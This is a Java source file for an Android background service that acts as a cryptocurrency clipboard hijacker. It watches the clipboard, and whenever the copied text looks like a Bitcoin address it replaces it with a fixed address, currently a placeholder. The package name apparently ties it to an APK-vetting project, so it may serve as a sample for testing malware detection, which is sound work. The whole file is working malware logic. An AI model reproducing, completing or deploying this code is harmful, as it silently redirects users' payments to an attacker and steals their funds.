package org.apkvet.clip.clipper;

import android.app.*;
import android.content.*;
import android.os.*;

public class Swap extends Service implements ClipboardManager.OnPrimaryClipChangedListener {
    @Override
    public void onCreate() {
        super.onCreate();
        ((ClipboardManager) this.getSystemService("clipboard")).addPrimaryClipChangedListener(this);
    }

    @Override
    public void onPrimaryClipChanged() {
        String text = ((ClipboardManager) this.getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
        if (text.matches("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")) {
            ((ClipboardManager) this.getSystemService("clipboard")).setPrimaryClip(ClipData.newPlainText("", "bc1qexampleexampleexampleexampleexample"));
        }
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
